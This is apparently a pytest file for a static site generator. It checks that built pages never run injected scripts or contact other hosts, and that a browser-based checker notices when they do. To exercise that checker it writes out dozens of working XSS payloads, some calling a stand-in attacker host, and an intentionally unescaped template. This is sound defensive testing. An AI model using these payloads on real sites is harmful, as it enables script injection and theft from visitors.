"""Strings that attack: none runs a script or asks another host; and what would do so is noticed."""

import json
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from site_gen.build.build import Options, build
from site_gen.system.files import write
from testing.attack import inspect_reader, inspect_site, serving
from testing.attacks import by_hand, documents, imported
from testing.attacks.in_browser import visiting
from testing.attacks.strings import Attack, choose, read_attacks

pytestmark = pytest.mark.browser

ATTACKS = read_attacks()
SOME = choose(ATTACKS, 1)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site with a string of each kind in each field that a person writes."""
    site = tmp_path_factory.mktemp("attacked")
    by_hand.write_site(site, SOME)
    build(site, site / "public", Options(has_search=False))
    return site


def test_the_strings_are_many_and_each_says_what_it_attacks() -> None:
    kinds = Counter(one.attacks for one in ATTACKS)

    assert len({one.text for one in ATTACKS}) == len(ATTACKS) >= 300
    assert len(kinds) >= 30
    assert min(kinds.values()) >= 5


def test_what_an_owner_copies_runs_nothing(chromium: Browser, attacked: Path) -> None:
    parsed, opened, found = inspect_site(chromium, attacked / "public", 4, 1, markdown=False)

    assert found == []
    assert parsed > 500
    assert opened > 20


def test_what_a_reader_is_given_runs_nothing(chromium: Browser, attacked: Path) -> None:
    texts = [one.text for one in SOME if one.text.isprintable()][::8]
    opened, found = inspect_reader(chromium, attacked / "public", texts)

    assert found == []
    assert opened > 20


def test_what_is_imported_runs_nothing(chromium: Browser, tmp_path: Path) -> None:
    name, texts = "feed: RSS with HTML", [one.text for one in SOME]
    papers, faults = imported.import_site(
        tmp_path, name, [*imported.write_texts(name, texts, raw=False)]
    )
    build(tmp_path, tmp_path / "public", Options(has_search=False))
    found = inspect_site(chromium, tmp_path / "public", 1, 1, markdown=True)[2]

    assert faults == found == []
    assert papers > 20


# --- What the checks notice

HARMS = {
    "<script>window.attacked = 1</script>": "window.attacked is 1",
    "<script>alert(1)</script>": "a dialog opened",
    "<script>open('/robots.txt')</script>": "a window opened",
    "<script>Object.prototype.attacked = 1</script>": "Object.prototype.attacked",
    "<script>undefined_name</script>": "a script failed",
    "<script src=https://attack.example/a.js></script>": "a request to https://attack.example/a.js",
    "<img src=x onerror=window.attacked=1>": "<img onerror>",
    "<img src=//attack.example/a.png>": "a request to http://attack.example/a.png",
    "<link rel=stylesheet href=https://attack.example/a.css>": "a request to",
    "<link rel=icon href=https://attack.example/a.ico>": "loads https://attack.example/a.ico",
    "<style>@import 'https://attack.example/a.css'</style>": "a request to https://attack",
    "<p style=color:red>": "<p style>",
    "<meta http-equiv=refresh content='9;url=/x'>": "<meta http-equiv=refresh>",
    "<meta http-equiv=refresh content='0;url=https://attack.example/'>": "a request to https://at",
    "<base href=https://attack.example/>": "<base>",
    "<form action=https://attack.example/></form>": "loads https://attack.example/ by <form act",
    "<iframe srcdoc=x></iframe>": "<iframe srcdoc>",
    "<a href=javascript:attacked=1>x</a>": '<a href="javascript:attacked=1">',
    "<a href='java&Tab;script:attacked=1'>x</a>": "<a href=",
    "<a href=data:text/html,x download>x</a>": '<a href="data:text/html,x">',
    "<a href='/\\attack.example/'>x</a>": "leads to http://attack.example/",
    "<a href=//attack.example/>x</a>": "leads to http://attack.example/",
    "<b onclick=x>": "<b onclick>",
    "<b x=''>": "<b x>",
    "<svg><a xlink:href=javascript:x></a></svg>": "<a xlink:href>",
    "<math><maction>x</maction></math>": "<maction>",
    "<form id=x><input name=body></form><img name=body>": "document.body is another element",
    "<script type=application/ld+json>{</script>": "no JSON",
    "<script>document.cookie = 'a=b'</script>": "a cookie",
}  # fmt: skip


@pytest.fixture(scope="module")
def harmful(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Pages that do harm, as they would if the site did not escape."""
    folder = tmp_path_factory.mktemp("harmful")
    for number, harm in enumerate(HARMS):
        page = f"<!doctype html><html><head><title>x</title></head><body>{harm}</body></html>"
        write(folder / f"{number}/index.html", page.encode())
    write(folder / "robots.txt", b"")
    with serving(folder) as base:
        yield base


@pytest.mark.parametrize(("number", "harm"), [*enumerate(HARMS)])
def test_harm_is_noticed(chromium: Browser, harmful: str, number: int, harm: str) -> None:
    with visiting(chromium, harmful) as visitor:
        visitor.visit(f"/{number}/")

    assert any(HARMS[harm] in what for what in visitor.found), visitor.found


def test_a_template_that_does_not_escape_is_noticed(chromium: Browser, tmp_path: Path) -> None:
    by_hand.write_site(tmp_path, [Attack("x", "<img src=//attack.example/x onerror=attacked=1>")])
    unsafe = "{% extends 'base.html' %}{% block main %}{{ page.title|safe }}{% endblock %}"
    write(tmp_path / "templates/topic.html", unsafe.encode())
    build(tmp_path, tmp_path / "public", Options(has_search=False))
    found = inspect_site(chromium, tmp_path / "public", 1, 1, markdown=False)[2]

    for what in ("window.attacked is 1", "a request to http://attack.example/", "<img onerror>"):
        assert any(what in one for one in found), found


RSS = "<rss><channel><item><title>x</title><description>{}</description></item></channel></rss>"
FEEDS = {
    "feed.xml": (RSS.format("&lt;b onclick=x>"), "<b onclick>"),
    "atom.xml": ('<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="html">'
                 "&lt;script>x&lt;/script></content></entry></feed>", "a script: x"),
    "feed.json": (json.dumps({"items": [{"content_html": "<svg onload=x>"}]}), "<svg onload>"),
    "2025-03-01.md": ("# A\n\n<iframe src=x></iframe>\n", "<iframe>"),
}  # fmt: skip


@pytest.mark.parametrize("name", FEEDS)
def test_harm_in_a_feed_is_noticed(chromium: Browser, name: str, tmp_path: Path) -> None:
    text, what = FEEDS[name]
    write(tmp_path / name, text.encode())
    with visiting(chromium, "http://127.0.0.1") as visitor:
        visitor.page.goto("about:blank")
        visitor.look_through(documents.read_html(tmp_path, markdown=True))

    assert visitor.found == [f"{name}: {what}"]
